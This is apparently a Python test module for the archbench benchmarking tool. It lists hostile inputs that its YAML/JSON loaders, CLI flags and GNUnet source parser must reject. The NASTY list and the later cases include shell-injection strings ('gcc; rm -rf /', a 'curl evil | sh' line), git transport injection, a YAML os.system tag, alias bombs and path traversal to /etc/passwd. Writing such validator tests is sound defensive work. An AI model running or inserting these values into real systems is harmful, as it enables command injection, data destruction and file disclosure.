"""The hostile-input corpus: every case is (input, which loader or command, expected error).

``test_corpus.py`` runs each case and checks that it ends in archbench's own
error (the class given), that the message holds the expected fragment and
names the file or flag, is short, and carries no traceback, no pydantic link
and no raw control characters. Add a case whenever a new kind of input is
found to slip through.

Kinds:

* ``matrix-field``: ``input`` is substituted for one field of a valid matrix
  (:data:`FIELD_TEMPLATES`), then :func:`archbench.matrix.parse`.
* ``matrix-bytes``: the bytes are a matrix file, :func:`archbench.matrix.load`.
* ``results-bytes``: a results file, :func:`archbench.result.load`.
* ``manifest-bytes``: ``run.json`` of run ``20261129T220000Z-abcdef``, loaded by
  :meth:`ResultStore.load_manifest` (the file in a run directory named otherwise
  when the case says so).
* ``setup-bytes``: an import's setup.yml, :func:`archbench.upstream.load_setup`.
* ``log``: an upstream log for ``invoke import`` (scan + build), before writing.
* ``flag``: keyword arguments of an invoke task, called in process.
* ``resume``: a run id given to ``--resume``.
* ``gnunet-string``: the one-string GNUnet source of ``--gnunet``,
  :func:`archbench.matrix.parse_gnunet`.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

GOOD_MATRIX = """\
version: 1
bases:
  deb: {source: bootstrap, suite: trixie, mirror: "http://mirror.invalid/debian"}
  ubu: {source: pull, image: "ubuntu:24.04"}
profiles:
  slim: {packages: [gcc, "libc6-dev:amd64", "make=4.4.1-2"]}
  taler:
    packages: [curl]
    recipe:
      name: taler-helper
      gnunet: {version: "0.25.0", url: "https://tarballs.invalid/g.tar.gz", sha256: "SHA_G"}
      exchange: {version: "1.0.0", url: "https://tarballs.invalid/e.tar.gz", sha256: "SHA_E"}
hosts:
  box: {url: "tcp://127.0.0.1:2375"}
targets:
  - {name: amd64-trixie, arch: amd64, base: deb, profile: slim}
  - {name: arm64-noble, arch: arm64, base: ubu, profile: taler}
""".replace("SHA_G", "0" * 64).replace("SHA_E", "1" * 64)

FIELD_TEMPLATES: dict[str, tuple[str, str]] = {
    # field: (text replaced in GOOD_MATRIX, replacement with {v} for the JSON-quoted value)
    "package": ("[gcc,", "[{v},"),
    "profile-name": ("  slim: {packages", "  {v}: {packages"),
    "base-name": ("  deb: {source", "  {v}: {source"),
    "host-name": ("  box: {url", "  {v}: {url"),
    "target-name": ("name: amd64-trixie", "name: {v}"),
    "target-base": ("arch: amd64, base: deb", "arch: amd64, base: {v}"),
    "target-profile": ("profile: slim}", "profile: {v}}"),
    "target-host": ("base: deb, profile: slim}", "base: deb, profile: slim, host: {v}}"),
    "target-cpuset": ("base: deb, profile: slim}", "base: deb, profile: slim, cpuset: {v}}"),
    "suite": ("suite: trixie", "suite: {v}"),
    "variant": ("suite: trixie,", "suite: trixie, variant: {v},"),
    "mirror": ('mirror: "http://mirror.invalid/debian"', "mirror: {v}"),
    "image": ('image: "ubuntu:24.04"', "image: {v}"),
    "recipe-version": ('version: "0.25.0"', "version: {v}"),
    "recipe-url": ('url: "https://tarballs.invalid/g.tar.gz"', "url: {v}"),
    "recipe-sha256": ('sha256: "' + "0" * 64 + '"', "sha256: {v}"),
    # gnunet: of a target (issue 20); its paths take spaces and look-alikes, so they have
    # cases of their own below.
    "gnunet-string": ("base: deb, profile: slim}", "base: deb, profile: slim, gnunet: {v}}"),
    "gnunet-git": (
        "base: deb, profile: slim}",
        "base: deb, profile: slim, gnunet: {git: {v}, ref: v0.27.0}}",
    ),
    "gnunet-ref": (
        "base: deb, profile: slim}",
        'base: deb, profile: slim, gnunet: {git: "https://git.invalid/g.git", ref: {v}}}',
    ),
    "gnunet-path": ("base: deb, profile: slim}", "base: deb, profile: slim, gnunet: {path: {v}}}"),
    "gnunet-sha256": (
        "base: deb, profile: slim}",
        "base: deb, profile: slim, gnunet: {tarball: g.tar.gz, sha256: {v}}}",
    ),
}

NASTY: tuple[str, ...] = (
    "gcc; rm -rf /",
    "$(id)",
    "`id`",
    "gcc\nRUN curl evil | sh",
    "gcc\r\nid",
    "--foo",
    "-x",
    "--variant=fakechroot",
    "g\u0441c",  # Cyrillic es
    "\uff47\uff43\uff43",  # fullwidth gcc
    "gcc\u200b",  # zero-width space
    "\u202egcc",  # right-to-left override
    "gcc\x00",
    "a" * 5000,
    "",
    " ",
    "gcc rm",
    "'",
    '"',
    "../../etc/passwd",
    "gcc&&id",
    "gcc|id",
    "${IFS}id",
    "\\",
    "gcc>/etc/x",
    "http://user:pw@host/debian",
)
"""The nastiest values we could think of; each is tried in every field."""


@dataclass(frozen=True)
class Case:
    """One hostile input, where it goes, and the error it must end in."""

    id: str
    kind: str
    input: Any
    expect: str
    """A fragment the message must contain (case-sensitive)."""
    error: str = "MatrixError"
    """The archbench error class (name in archbench.errors)."""


PERMISSIVE_FIELDS = {"gnunet-path"}
"""Fields that take some of :data:`NASTY` on purpose: a path may hold spaces and non-ASCII
letters (it never reaches a shell). Their refusals are cases of their own."""


def _field_cases() -> list[Case]:
    cases = []
    for field in [f for f in FIELD_TEMPLATES if f not in PERMISSIVE_FIELDS]:
        for i, value in enumerate(NASTY):
            cases.append(Case(f"{field}-{i}", "matrix-field", (field, value), "m.yml: "))
    return cases


def _alias_bomb(levels: int = 9, width: int = 9, where: str = "iterations") -> bytes:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, levels):
        refs = ", ".join([f"*a{i - 1}"] * width)
        lines.append(f"a{i}: &a{i} [{refs}]")
    body = "\n".join(lines)
    return (
        f"{body}\nversion: 1\ndefaults:\n  blindsig: {{{where}: *a{levels - 1}}}\n"
        + GOOD_MATRIX.split("\n", 1)[1]
    ).encode()


ALIAS_BOMB = _alias_bomb()
DEEP_YAML = b"version: " + b"[" * 100_000 + b"]" * 100_000 + b"\n"
DEEP_JSON = b"[" * 100_000 + b"]" * 100_000
DEEP_JSON_OBJECT = b'{"a":' * 50_000 + b"1" + b"}" * 50_000


def _result(**over: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "format": "archbench-result",
        "version": 1,
        "run_id": "20261129T220000Z-abcdef",
        "target": {
            "name": "t1",
            "arch": "amd64",
            "platform": "linux/amd64",
            "base": "d",
            "profile": "slim",
        },
        "execution": {
            "emulated": False,
            "host_arch": "amd64",
            "host_cpu": "c",
            "image_id": "sha256:00",
            "image_tag": "archbench/bench:amd64-00",
        },
        "harness": {
            "format": "archbench-harness",
            "version": 1,
            "harness_version": "0.1.0",
            "started_at": "x",
            "duration_s": 1.0,
            "setup": {
                "cpu_model": "c",
                "cores": 2,
                "machine": "x86_64",
                "kernel": "k",
                "os": "o",
                "packages": {},
            },
            "rows": [
                {
                    "suite": "blindsig",
                    "scheme": "RSA",
                    "key_bits": 2048,
                    "operation": "signing",
                    "ops_per_block": 10,
                    "samples_ns": [1000],
                    "valid": True,
                }
            ],
        },
    }
    row = doc["harness"]["rows"][0]
    for key, value in over.items():
        row[key] = value
    return doc


def _manifest(**over: Any) -> bytes:
    doc = {
        "format": "archbench-run",
        "version": 1,
        "run_id": "20261129T220000Z-abcdef",
        "started_at": "x",
        "matrix_file": "matrix.yml",
        "matrix_text": "version: 1",
        "targets": ["a"],
    }
    doc.update(over)
    return json.dumps(doc).encode()


CASES: list[Case] = [
    *_field_cases(),
    # --- bytes and shapes that crashed the loaders ---------------------------------
    Case("matrix-latin1", "matrix-bytes", b"version: 1\n# caf\xe9\n", "not UTF-8 text (byte 16"),
    Case("matrix-utf16", "matrix-bytes", "version: 1".encode("utf-16"), "not UTF-8"),
    Case("matrix-nul", "matrix-bytes", b"version: 1\x00\n", "not valid YAML"),
    Case("matrix-alias-bomb", "matrix-bytes", ALIAS_BOMB, "aliases (*name) are expanded"),
    Case(
        "matrix-alias-bomb-packages",
        "matrix-bytes",
        _alias_bomb(where="rsa_bits"),
        "aliases (*name) are expanded",
    ),
    Case("matrix-deep-flow", "matrix-bytes", DEEP_YAML, "nested deeper than 64"),
    Case(
        "matrix-deep-block",
        "matrix-bytes",
        "".join(f"{' ' * i}k{i}:\n" for i in range(500)).encode() + b" " * 500 + b"x: 1\n",
        "nested deeper than 64",
    ),
    Case("matrix-huge-int", "matrix-bytes", b"version: " + b"9" * 5000 + b"\n", "cannot be read"),
    Case("matrix-too-big", "matrix-bytes", b"#" * (2 * 1024 * 1024), "larger than 256 KiB"),
    Case("matrix-python-tag", "matrix-bytes", b"version: !!python/object:os.system [id]\n", "YAML"),
    Case("matrix-list", "matrix-bytes", b"- 1\n- 2\n", "expected a mapping"),
    Case("matrix-dup-key", "matrix-bytes", b"version: 1\nversion: 1\n", "duplicate key"),
    Case("matrix-complex-key", "matrix-bytes", b"? [a, b]\n: 1\n", "plain value"),
    Case("matrix-two-docs", "matrix-bytes", b"version: 1\n---\nversion: 1\n", "not valid YAML"),
    Case(
        "matrix-rsa-negative",
        "matrix-bytes",
        GOOD_MATRIX.replace(
            "version: 1\n", "version: 1\ndefaults: {blindsig: {rsa_bits: [-2048]}}\n"
        ).encode(),
        "RSA key size -2048 is not allowed",
    ),
    Case(
        "matrix-rsa-zero",
        "matrix-bytes",
        GOOD_MATRIX.replace(
            "version: 1\n", "version: 1\ndefaults: {blindsig: {rsa_bits: [0]}}\n"
        ).encode(),
        "RSA key size 0 is not allowed",
    ),
    Case(
        "matrix-iterations-list",
        "matrix-bytes",
        GOOD_MATRIX.replace(
            "version: 1\n", "version: 1\ndefaults: {blindsig: {iterations: [1]}}\n"
        ).encode(),
        "must be a whole number",
    ),
    Case(
        "matrix-target-run",
        "matrix-bytes",
        GOOD_MATRIX.replace("name: amd64-trixie", "name: run").encode(),
        "file names of the run itself",
    ),
    Case(
        "matrix-target-repeat",
        "matrix-bytes",
        GOOD_MATRIX.replace("name: amd64-trixie", "name: arm64-noble.repeat-2").encode(),
        "file names of the run itself",
    ),
    Case(
        "matrix-target-instructions",
        "matrix-bytes",
        GOOD_MATRIX.replace("name: amd64-trixie", "name: amd64.instructions").encode(),
        "file names of the run itself",
    ),
    Case("matrix-many-nodes", "matrix-bytes", b"- 1\n" * 30_000, "more than 20000 values"),
    Case(
        "matrix-bomb-in-key",
        "matrix-bytes",
        ALIAS_BOMB.replace(b"version: 1", b"? *a8\n: 1\nversion: 1"),
        "expanded",
    ),
    Case(
        "results-long-escapes",
        "results-bytes",
        b'{"format": "' + b"\\n" * 1_000_000 + b'"}',
        "expected 'archbench-result'",
        "ResultsError",
    ),
    Case("results-latin1", "results-bytes", b'{"format": "caf\xe9"}', "not UTF-8", "ResultsError"),
    Case("results-deep", "results-bytes", DEEP_JSON, "nested deeper than 64", "ResultsError"),
    Case("results-deep-obj", "results-bytes", DEEP_JSON_OBJECT, "nested deeper", "ResultsError"),
    Case("results-nan", "results-bytes", b'{"a": NaN}', "NaN is not a number", "ResultsError"),
    Case(
        "results-huge-int",
        "results-bytes",
        b'{"a": ' + b"9" * 5000 + b"}",
        "cannot be read",
        "ResultsError",
    ),
    Case("results-empty", "results-bytes", b"", "not valid JSON", "ResultsError"),
    Case("results-array", "results-bytes", b"[]", "expected a JSON object", "ResultsError"),
    Case(
        "results-absurd-ns",
        "results-bytes",
        json.dumps(_result(samples_ns=[10**30])).encode(),
        "must be at most 9223372036854775807",
        "ResultsError",
    ),
    Case(
        "results-negative-bits",
        "results-bytes",
        json.dumps(_result(key_bits=-2048)).encode(),
        "key_bits -2048 is not a key size",
        "ResultsError",
    ),
    Case(
        "results-zero-bits",
        "results-bytes",
        json.dumps(_result(key_bits=0)).encode(),
        "key_bits 0 is not a key size",
        "ResultsError",
    ),
    Case(
        "results-string-ns",
        "results-bytes",
        json.dumps(_result(samples_ns=["1e400"])).encode(),
        "must be a whole number",
        "ResultsError",
    ),
    Case(
        "manifest-latin1", "manifest-bytes", b'{"run_id": "caf\xe9"}', "not UTF-8", "ResultsError"
    ),
    Case("manifest-deep", "manifest-bytes", DEEP_JSON, "nested deeper", "ResultsError"),
    Case(
        "manifest-escape",
        "manifest-bytes",
        _manifest(run_id="../../../tmp/evil"),
        "does not have the allowed form",
        "ResultsError",
    ),
    Case(
        "manifest-other-run",
        "manifest-bytes",
        _manifest(run_id="20261129T220000Z-ffffff"),
        "the manifest says run",
        "ResultsError",
    ),
    Case(
        "manifest-bad-type",
        "manifest-bytes",
        _manifest(targets="a"),
        "unreadable run manifest",
        "ResultsError",
    ),
    Case("setup-latin1", "setup-bytes", b"cpu_model: caf\xe9\ncores: 2\n", "not UTF-8"),
    Case("setup-bomb", "setup-bytes", ALIAS_BOMB.replace(b"version: 1", b"cores: 1"), "expanded"),
    Case("setup-deep", "setup-bytes", DEEP_YAML, "nested deeper"),
    Case("setup-huge-int", "setup-bytes", b"cpu_model: x\ncores: " + b"9" * 5000, "cannot be read"),
    Case(
        "setup-cores-str", "setup-bytes", b"cpu_model: x\ncores: many\n", "must be a whole number"
    ),
    # --- numbers in imported logs ---------------------------------------------------
    Case(
        "log-absurd-time",
        "log",
        "10x 2048-signing took " + "9" * 40 + " ms\n",
        "longer than any run",
        "ResultsError",
    ),
    Case(
        "log-huge-time",
        "log",
        "10x 2048-signing took 99999999999 days\n",
        "longer than any run",
        "ResultsError",
    ),
    Case(
        "log-huge-count",
        "log",
        "9" * 400 + "x 2048-signing took 34 ms\n",
        "more than any benchmark runs",
        "ResultsError",
    ),
    Case(
        "log-huge-bits",
        "log",
        "10x " + "9" * 5000 + "-signing took 34 ms\n",
        "not a key size",
        "ResultsError",
    ),
    Case("log-zero-bits", "log", "10x 0-signing took 34 ms\n", "not a key size", "ResultsError"),
    # --- flags -------------------------------------------------------------------------
    Case(
        "bench-iterations-abc",
        "flag",
        ("bench", {"iterations": "abc"}),
        "--iterations: 'abc' is not a whole number",
    ),
    Case(
        "bench-iterations-0",
        "flag",
        ("bench", {"iterations": "0"}),
        "--iterations: 0 is out of range",
    ),
    Case("bench-iterations-huge", "flag", ("bench", {"iterations": "9" * 400}), "--iterations:"),
    Case(
        "bench-repetitions-float",
        "flag",
        ("bench", {"repetitions": "2.5"}),
        "--repetitions: '2.5' is not a whole number",
    ),
    Case("bench-warmup-neg", "flag", ("bench", {"warmup": "-1"}), "--warmup: -1 is out of range"),
    Case(
        "bench-max-time-nan",
        "flag",
        ("bench", {"max_time": "nan"}),
        "--max-time: 'nan' is not a finite number",
    ),
    Case(
        "bench-max-time-inf",
        "flag",
        ("bench", {"max_time": "inf"}),
        "--max-time: 'inf' is not a finite number",
    ),
    Case("bench-max-time-0", "flag", ("bench", {"max_time": "0"}), "--max-time: 0 is out of range"),
    Case(
        "bench-repeat-abc",
        "flag",
        ("bench", {"repeat": "abc"}),
        "--repeat: 'abc' is not a whole number",
    ),
    Case("bench-repeat-0", "flag", ("bench", {"repeat": "0"}), "--repeat: 0 is out of range"),
    Case(
        "bench-rsa-neg",
        "flag",
        ("bench", {"rsa_bits": "-2048"}),
        "--rsa-bits: -2048 is out of range",
    ),
    Case("bench-rsa-zero", "flag", ("bench", {"rsa_bits": "0"}), "--rsa-bits: 0 is out of range"),
    Case(
        "bench-rsa-odd", "flag", ("bench", {"rsa_bits": "2047"}), "RSA key size 2047 is not allowed"
    ),
    Case("bench-rsa-empty", "flag", ("bench", {"rsa_bits": ","}), "--rsa-bits: empty selection"),
    Case("bench-arch-empty", "flag", ("bench", {"arch": ""}), "--arch: empty selection"),
    Case("bench-target-empty", "flag", ("bench", {"target": ""}), "--target: empty selection"),
    Case("bench-suite-empty", "flag", ("bench", {"suite": " , "}), "--suite: empty selection"),
    Case(
        "bench-cpuset-text",
        "flag",
        ("bench", {"cpuset": "all"}),
        "--cpuset: 'all' is not a CPU set",
    ),
    Case("bench-cpuset-empty", "flag", ("bench", {"cpuset": ""}), "--cpuset: '' is not a CPU set"),
    Case("bench-cpuset-back", "flag", ("bench", {"cpuset": "3-1"}), "runs backwards"),
    Case("bench-cpuset-inject", "flag", ("bench", {"cpuset": "0;id"}), "is not a CPU set"),
    Case(
        "report-arch-empty",
        "flag",
        ("report", {"arch": ""}),
        "--arch: empty selection",
        "MatrixError",
    ),
    Case("report-run-empty", "flag", ("report", {"run": ""}), "--run: empty selection"),
    Case(
        "report-run-escape",
        "flag",
        ("report", {"run": "../../etc"}),
        "is not a run id",
        "ResultsError",
    ),
    Case(
        "report-bits-abc",
        "flag",
        ("report", {"compare_bits": "abc"}),
        "--compare-bits: 'abc' is not a whole number",
    ),
    Case(
        "report-unit",
        "flag",
        ("report", {"unit": "furlongs"}),
        "--unit 'furlongs' is not one of",
        "ReportUsageError",
    ),
    Case(
        "import-cores-abc",
        "flag",
        ("import_", {"logs": "x.log", "target": "t", "arch": "amd64", "cores": "abc", "cpu": "c"}),
        "--cores: 'abc' is not a whole number",
    ),
    Case(
        "import-rsa-neg",
        "flag",
        (
            "import_",
            {
                "logs": "x.log",
                "target": "t",
                "arch": "amd64",
                "cores": "2",
                "cpu": "c",
                "rsa_bits": "-2048",
            },
        ),
        "--rsa-bits: -2048 is out of range",
    ),
    Case(
        "import-run-escape",
        "flag",
        (
            "import_",
            {
                "logs": "x.log",
                "target": "t",
                "arch": "amd64",
                "cores": "2",
                "cpu": "c",
                "run": "../x",
            },
        ),
        "is not a run id",
        "ResultsError",
    ),
    Case(
        "import-arch-empty",
        "flag",
        ("import_", {"logs": "x.log", "target": "t", "arch": ""}),
        "--arch: empty selection",
    ),
    Case(
        "compare-run-escape",
        "flag",
        ("compare", {"run_a": "../../etc", "run_b": "x"}),
        "RUN_A '../../etc' is not a run id",
        "ResultsError",
    ),
    Case(
        "compare-target-empty",
        "flag",
        ("compare", {"run_a": "a", "run_b": "b", "target": ""}),
        "--target: empty selection",
    ),
    Case(
        "matrix-gnunet-perf-bits",
        "matrix-bytes",
        GOOD_MATRIX.replace(
            "version: 1\n", "version: 1\ndefaults: {gnunet-perf: {rsa_bits: [-2048]}}\n"
        ).encode(),
        "RSA key sizes are whole numbers of bits from 512 to 16384",
    ),
    # --- paths taken from flags ----------------------------------------------------------
    Case(
        "resume-escape",
        "resume",
        "../../../tmp",
        "--resume '../../../tmp' is not a run id",
        "ResultsError",
    ),
    Case("resume-abs", "resume", "/etc", "is not a run id", "ResultsError"),
    # --- GNUnet sources (issue 20) ---------------------------------------------------
    *[
        Case(f"gnunet-path-{i}", "matrix-field", ("gnunet-path", v), "is not allowed")
        for i, v in enumerate(
            ["-rf", "$(id)", "`id`", "a;b", "a\nb", "a\x00", "\u202egnunet", "a" * 5000, "", " x"]
        )
    ],
    *[
        Case(f"gnunet-flag-{i}", "gnunet-string", v, "--gnunet: ")
        for i, v in enumerate(
            [
                *(v for v in NASTY if not v.isprintable() or set(v) & set("$`;|&<>'\"\\")),
                "--foo",
                "-x",
                "git+ssh://git@evil/x@v1",
                "git+https://h/g.git@--upload-pack=id",
                "git+ext::sh -c id@v1",
                "g.tgz@sha256:" + "0" * 63,
                "https://u:pw@h/g.tgz@sha256:" + "0" * 64,
                "file:///etc/passwd@sha256:" + "0" * 64,
                "x.tar.gz",
            ]
        )
    ],
    Case("resume-dot", "resume", "..", "is not a run id", "ResultsError"),
    Case(
        "resume-newline", "resume", "20261129T220000Z-abcdef\n", "is not a run id", "ResultsError"
    ),
]
